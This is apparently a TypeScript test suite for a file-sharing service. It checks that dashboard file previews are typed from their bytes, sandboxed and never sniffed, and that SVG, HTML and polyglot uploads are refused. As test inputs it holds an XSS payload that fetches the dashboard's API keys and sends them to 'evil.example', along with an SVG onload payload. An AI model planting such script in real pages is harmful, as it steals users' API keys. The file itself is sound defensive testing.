import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { bearer, startTestApp, uploadFile, type TestApp } from '../helpers/test-app.js'

const PASSWORD = 'correct horse battery staple'
const MiB = 1024 * 1024

/** The first bytes of each previewed type, then some filler: the service reads only the signature. */
const SAMPLES = {
  'image/png': Buffer.concat([Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), Buffer.alloc(40, 1)]),
  'image/jpeg': Buffer.concat([Buffer.from('ffd8ffe000104a464946', 'hex'), Buffer.alloc(40, 2)]),
  'image/gif': Buffer.concat([Buffer.from('GIF89a', 'latin1'), Buffer.alloc(40, 3)]),
  'image/webp': Buffer.concat([
    Buffer.from('RIFF', 'latin1'),
    Buffer.from('24000000', 'hex'),
    Buffer.from('WEBPVP8 ', 'latin1'),
    Buffer.alloc(40, 4),
  ]),
  'application/pdf': Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n', 'latin1'),
} as const

/** A script that would run if the browser took these bytes for HTML or SVG on the service's origin. */
const SCRIPT = '<script>fetch("/dashboard/api/keys").then((r) => r.text()).then((t) => new Image().src = "//evil.example/?" + t)</script>'

interface Holder {
  accountId: number
  apiKey: string
  /** The session cookie's value. */
  session: string
}

let holders = 0

/** An account with an API key (to upload) and a signed-in dashboard session (to preview). */
async function signedInHolder(t: TestApp): Promise<Holder> {
  const email = `previews${++holders}-${Date.now()}@example.test`
  const { accountId, apiKey } = await t.createAccount('pro', email)
  await t.app.services.accountHolders.setPassword(accountId, PASSWORD)
  const answer = await fetch(`${t.url}/dashboard/api/sign-in`, {
    method: 'POST',
    headers: { origin: t.url, 'content-type': 'application/json' },
    body: JSON.stringify({ email, password: PASSWORD }),
  })
  expect(answer.status).toBe(200)
  const cookie = answer.headers.getSetCookie().find((value) => value.startsWith('fileshare_session='))!
  return { accountId, apiKey, session: cookie.split(';')[0]!.slice('fileshare_session='.length) }
}

async function upload(t: TestApp, holder: Holder, content: string | Uint8Array, filename: string): Promise<number> {
  const { response, body } = await uploadFile(t, holder.apiKey, content, filename)
  expect(response.status).toBe(201)
  return body.file_id
}

function preview(t: TestApp, holder: Pick<Holder, 'session'> | undefined, fileId: number, method = 'GET') {
  const headers: Record<string, string> = holder ? { cookie: `fileshare_session=${holder.session}` } : {}
  return fetch(`${t.url}/dashboard/api/files/${fileId}/preview`, { method, headers })
}

/** The headers a preview must carry, exactly. */
function previewHeaders(response: Response) {
  return {
    status: response.status,
    type: response.headers.get('content-type'),
    policy: response.headers.get('content-security-policy'),
    nosniff: response.headers.get('x-content-type-options'),
    disposition: response.headers.get('content-disposition'),
    length: response.headers.get('content-length'),
    cache: response.headers.get('cache-control'),
    resourcePolicy: response.headers.get('cross-origin-resource-policy'),
  }
}

async function expectNoPreview(response: Response, status: number, code: string, message?: RegExp) {
  expect(response.status).toBe(status)
  // Never the file's bytes, and never a type a browser would run: the JSON error only.
  expect(response.headers.get('content-type')).toMatch(/^application\/json/)
  expect(response.headers.get('content-disposition')).toBeNull()
  const body = (await response.json()) as { error: { code: string; message: string } }
  expect(body.error.code).toBe(code)
  if (message) expect(body.error.message).toMatch(message)
}

/**
 * Previews of a holder's files in the dashboard (docs/security.md, "Previews in the dashboard"):
 * served only when the stored bytes are PNG, JPEG, GIF, WebP or PDF, typed from those bytes (never
 * the name or the uploader's claim), inline, sandboxed and never sniffed; SVG, HTML and anything
 * else refused; images over 20 MiB refused; not a download; the holder's own files only, with a session.
 */
describe('file previews in the dashboard', () => {
  let t: TestApp
  let holder: Holder

  beforeAll(async () => {
    t = await startTestApp()
    holder = await signedInHolder(t)
  })
  afterAll(async () => {
    await t?.close()
  })

  it('serves PNG, JPEG, GIF, WebP and PDF typed from their bytes, inline and sandboxed, with exact headers', async () => {
    for (const [type, bytes] of Object.entries(SAMPLES)) {
      // A name that says nothing of the type: the bytes decide.
      const fileId = await upload(t, holder, bytes, `sample of ${type.replace('/', ' ')}.dat`)
      const answer = await preview(t, holder, fileId)
      expect(previewHeaders(answer), type).toEqual({
        status: 200,
        type,
        policy: type === 'application/pdf' ? 'sandbox' : "sandbox; default-src 'none'",
        nosniff: 'nosniff',
        disposition: 'inline',
        length: String(bytes.length),
        cache: 'private, no-store',
        resourcePolicy: 'same-origin',
      })
      expect(Buffer.from(await answer.arrayBuffer()).equals(bytes), type).toBe(true)

      // HEAD: the same head, no body.
      const head = await preview(t, holder, fileId, 'HEAD')
      expect(previewHeaders(head), type).toEqual(previewHeaders(answer))
      expect(await head.text()).toBe('')
    }
  })

  it('refuses SVG, HTML (also with a PNG name), text and empty files, whatever the name or claimed type', async () => {
    const refused: [string, string][] = [
      [`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`, 'drawing.svg'],
      [`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`, 'drawing.png'],
      [`<!doctype html><html><body>${SCRIPT}</body></html>`, 'photo.png'],
      [`<html>${SCRIPT}</html>`, 'scan.pdf'],
      ['just some text', 'notes.jpg'],
      // The signature a little later than the first byte is not that type.
      [` %PDF-1.4 ${SCRIPT}`, 'paper.pdf'],
      ['', 'empty.gif'],
    ]
    for (const [content, name] of refused) {
      const fileId = await upload(t, holder, content, name)
      // The upload's own type came from the name: the offer in the page may guess, the server does not.
      await expectNoPreview(await preview(t, holder, fileId), 404, 'not_found', /not a PNG, JPEG, GIF, WebP or PDF file/)
    }
  })

  it('serves a polyglot (a PNG signature, then HTML) only as the image it starts as, never as HTML', async () => {
    const polyglot = Buffer.concat([SAMPLES['image/png'], Buffer.from(`<html><body>${SCRIPT}</body></html>`)])
    const fileId = await upload(t, holder, polyglot, 'page.html')
    const answer = await preview(t, holder, fileId)
    expect(previewHeaders(answer)).toMatchObject({
      status: 200,
      type: 'image/png',
      policy: "sandbox; default-src 'none'",
      nosniff: 'nosniff',
      disposition: 'inline',
    })
    await answer.arrayBuffer()
  })

  it('gives no preview of an image over 20 MiB; a PDF has no such cap', async () => {
    const big = Buffer.alloc(20 * MiB + 1, 0)
    SAMPLES['image/png'].copy(big)
    const imageId = await upload(t, holder, big, 'big.png')
    await expectNoPreview(await preview(t, holder, imageId), 404, 'not_found', /images over 20 MiB are not previewed/)

    const exactly = big.subarray(0, 20 * MiB)
    const fittingId = await upload(t, holder, exactly, 'fits.png')
    const fitting = await preview(t, holder, fittingId, 'HEAD')
    expect(previewHeaders(fitting)).toMatchObject({ status: 200, type: 'image/png', length: String(20 * MiB) })

    SAMPLES['application/pdf'].copy(big)
    const pdfId = await upload(t, holder, big, 'big.pdf')
    expect(previewHeaders(await preview(t, holder, pdfId, 'HEAD'))).toMatchObject({ status: 200, type: 'application/pdf' })
  })

  it('is not a download: the file and its link count nothing', async () => {
    const fileId = await upload(t, holder, SAMPLES['image/gif'], 'counted.gif')
    const auditLog = async () =>
      ((await (await fetch(`${t.api}/audit-events`, { headers: bearer(holder.apiKey) })).json()) as { events: unknown[] }).events
    const before = await auditLog()
    for (let i = 0; i < 3; i++) await (await preview(t, holder, fileId)).arrayBuffer()
    const details = (await (await fetch(`${t.api}/files/${fileId}`, { headers: bearer(holder.apiKey) })).json()) as {
      file: { download_count: number }
    }
    expect(details.file.download_count).toBe(0)
    const links = (await (await fetch(`${t.api}/files/${fileId}/links`, { headers: bearer(holder.apiKey) })).json()) as {
      links: { download_count: number }[]
    }
    expect(links.links.map((link) => link.download_count)).toEqual([0])
    // Nor does the activity log record anything.
    expect(await auditLog()).toEqual(before)
  })

  it("answers 404 for another account's file, as for an unknown one, and 401 without a session", async () => {
    const other = await signedInHolder(t)
    const fileId = await upload(t, holder, SAMPLES['image/png'], 'mine.png')
    await expectNoPreview(await preview(t, other, fileId), 404, 'not_found')
    await expectNoPreview(await preview(t, other, 9_999_999), 404, 'not_found')
    await expectNoPreview(await preview(t, undefined, fileId), 401, 'sign_in_required')
    await expectNoPreview(await preview(t, { session: 'not-a-session' }, fileId), 401, 'sign_in_required')
    // An API key is not a session: previews are the dashboard's only.
    await expectNoPreview(
      await fetch(`${t.url}/dashboard/api/files/${fileId}/preview`, { headers: bearer(holder.apiKey) }),
      401,
      'sign_in_required',
    )
  })

  it('answers 400 for an id that is not a positive integer', async () => {
    for (const id of ['abc', '0', '1.5']) {
      const answer = await fetch(`${t.url}/dashboard/api/files/${id}/preview`, {
        headers: { cookie: `fileshare_session=${holder.session}` },
      })
      expect(answer.status, id).toBe(400)
    }
  })
})

/**
 * A file waiting for its virus scan gets no preview, in either mode (clamd is unreachable here, so
 * the scan stays pending): downloads in async mode serve it at once, a preview waits.
 */
describe('previews of files not scanned yet', () => {
  for (const mode of ['async', 'required'] as const) {
    it(`${mode} mode: 409 scan_pending, with Retry-After`, async () => {
      const t = await startTestApp({ FILESHARE_CLAMD: 'tcp://127.0.0.1:9', FILESHARE_SCAN: mode })
      try {
        const holder = await signedInHolder(t)
        const fileId = await upload(t, holder, SAMPLES['image/png'], 'waiting.png')
        const answer = await preview(t, holder, fileId)
        expect(answer.headers.get('retry-after')).toBe('10')
        await expectNoPreview(answer, 409, 'scan_pending')
      } finally {
        await t.close()
      }
    })
  }
})
